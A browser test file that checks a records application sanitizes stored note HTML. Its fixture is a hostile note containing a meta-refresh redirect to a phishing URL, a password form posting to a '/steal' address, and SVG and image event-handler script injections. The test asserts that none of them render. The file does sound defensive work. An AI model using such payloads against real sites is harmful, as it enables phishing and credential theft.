/**
 * The desk inserts a note's stored HTML into the page: what reaches it is the sanitized HTML, so a
 * note written with a <meta http-equiv="refresh"> (and a base, a form, an SVG, an image with a
 * handler) opens in place, with its text, and the recipient's tab stays on the desk.
 */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { sendNote } from '../support/communications.js';
import { CARLOS, deskRun } from './support.js';

describe('the desk shows stored HTML only as clean formatting (browser)', function () {
  this.timeout(180_000);
  const run = deskRun('expediente-stored-html-');
  const PHISH = 'http://127.0.0.1:9/phish';

  it('a note carrying a meta refresh opens in place and the tab stays on the desk', async () => {
    const tag = randomUUID().slice(0, 8);
    const subject = `Aviso de Mesa ${tag}`;
    await sendNote(
      'intendente',
      { to: ['MESA'] },
      {
        reference: subject,
        content:
          `<p>Texto de la nota <b>${tag}</b></p><meta http-equiv="refresh" content="0;url=${PHISH}"><base href="http://127.0.0.1:9/">` +
          '<form action="http://127.0.0.1:9/steal"><input name="clave" type="password"><button>Enviar</button></form>' +
          '<svg onload="alert(1)"><a href="http://127.0.0.1:9/svg">svg</a></svg><img src="x" id="clobber" onerror="alert(2)">',
      },
    );

    const { page } = await run.session(CARLOS);
    const outside: string[] = [];
    page.on('request', (r) => {
      if (r.url().includes('127.0.0.1:9/')) outside.push(r.url());
    });
    await page.getByRole('link', { name: 'Notas' }).click();
    await page.waitForURL(`${run.desk}/notas`);
    await page.getByRole('row').filter({ hasText: subject }).getByRole('button', { name: subject }).click();
    const text = page.getByRole('region', { name: `Nota: ${subject}` }).getByText(`Texto de la nota ${tag}`);
    // Raw, the refresh leaves before the text can be found: the address says where the tab went.
    await text.waitFor({ timeout: 10_000 }).catch(() => undefined);
    // A refresh of 0 seconds would have left at once: give it well over that.
    await page.waitForTimeout(2_000);
    // The open note is in the address (?id=…): the tab is still on the desk's Notas.
    assert.equal(page.url().split('?')[0], `${run.desk}/notas`, 'the tab stays on the desk');
    await text.waitFor({ timeout: 1_000 });
    assert.equal(
      await page.locator('.doc-html').locator('meta, base, form, input, button, svg, img, script').count(),
      0,
      'none of the hostile elements is in the page',
    );
    assert.equal(await page.locator('#clobber').count(), 0);
    assert.deepEqual(outside, [], 'nothing was requested from the address the note named');
  });
});
